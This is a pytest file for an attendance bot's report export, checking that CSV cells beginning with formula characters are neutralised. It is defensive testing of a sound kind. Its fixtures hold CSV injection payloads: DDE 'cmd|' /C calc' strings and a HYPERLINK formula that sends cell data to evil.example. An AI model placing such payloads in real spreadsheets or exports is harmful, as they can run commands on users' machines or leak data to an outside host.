"""Text a student or a roster chose, on its way out of rollcall: CSV cells, webhook payloads, desktop
notifications, e-mail headers, delivery records. Each case is checked on what really arrives: a CSV parsed
back with the csv module, a JSON body posted to a real local HTTP server, a message through a real SMTP
server, the rows the worker records."""
from __future__ import annotations

import csv
import io

import pytest

from bot.report import csv_report, render
from bot.store import Store
from bot.types import Student
from tests.test_report import tile

# formula payloads (OWASP's list of first characters: = + - @ tab CR)
FORMULAS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+1 Mareta Aliana", '=HYPERLINK("http://evil.example/?"&A1;"click")',
            "-2+3", "\t=1", "\r=1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# ------------------------------------------------------------------------------------------- CSV

def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: read as comma-separated, and as a spreadsheet in a ';' locale
    splits each cell further."""
    cells = [c for row in rows for c in row]
    return [p for c in cells for p in {c, *c.split(";")} if p.startswith(FORMULA_START)]


@pytest.fixture()
def hostile_session(tmp_path):
    """A class named like a formula, whose roster ids, names and aliases and whose participants'
    display names are the payloads."""
    students = [Student(f"S{k}" if k % 2 else payload, payload, (payload, f"{payload};=2"))
                for k, payload in enumerate(FORMULAS)]
    with Store(tmp_path) as store:
        store.upsert_students(students, "=cmd|' /C calc'!A0")
        sid = store.start_session("=cmd|' /C calc'!A0", "video:x.mp4", 10, started="2024-05-01T10:00:00Z")
        for k in range(2):
            store.add_capture(sid, f"2024-05-01T10:00:{10 * k:02d}Z", {}, [
                tile(i, s.student_id, "verified", display)
                for i, (s, display) in enumerate(zip(students, [*FORMULAS[1:], "Ana;@x"]))])
        store.end_session(sid, "done", ended="2024-05-01T10:00:30Z")
        yield store, sid, students


def test_csv_report_neutralises_every_formula_cell(hostile_session):
    store, sid, students = hostile_session
    text = render(store, sid, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert formula_cells(rows) == []
    header, *body = rows
    got = [dict(zip(header, r)) for r in body]
    # each value is kept, behind the one quote that makes a spreadsheet show it as text
    assert sorted(r["name"] for r in got) == sorted("'" + p for p in FORMULAS)
    by_name = {r["name"][1:]: r for r in got}
    assert by_name["\t=1"]["student_id"] == "'\t=1" and by_name["+1+1 Mareta Aliana"]["student_id"] == "S1"
    assert by_name["\r=1"]["display_names"] == "Ana;'@x"   # the piece after ';' too
    assert by_name[FORMULAS[0]]["display_names"] == "'+1+1 Mareta Aliana"
    assert by_name["-2+3"]["present_s"] == "20"


def test_csv_numbers_stay_numbers_and_strings_are_neutralised():
    """A negative number rollcall computed is a number, not a formula to defuse; text always is."""
    row = {f: None for f in csv_report.FIELDS}
    row.update(student_id="-1", name="=1+1", status="verified", present_s=-50, camera_on_pct=-0.5,
               display_names=["-1", "ok", "@me"])
    rows = list(csv.reader(io.StringIO(csv_report.to_csv({"students": [row]}), newline="")))
    got = dict(zip(*rows))
    assert got["present_s"] == "-50" and got["camera_on_pct"] == "-0.5"
    assert got["student_id"] == "'-1" and got["name"] == "'=1+1" and got["display_names"] == "'-1;ok;'@me"
    assert got["first_seen"] == "" and got["status"] == "verified"


@pytest.mark.parametrize("text, want", [("=1", "'=1"), ("a=1", "a=1"), ("", ""), ("a;-1;b", "a;'-1;b"),
                                        ("\r=1", "'\r=1"), ("'=1", "'=1"), (" =1", " =1")])
def test_neutralise(text, want):
    assert csv_report.neutralise(text) == want
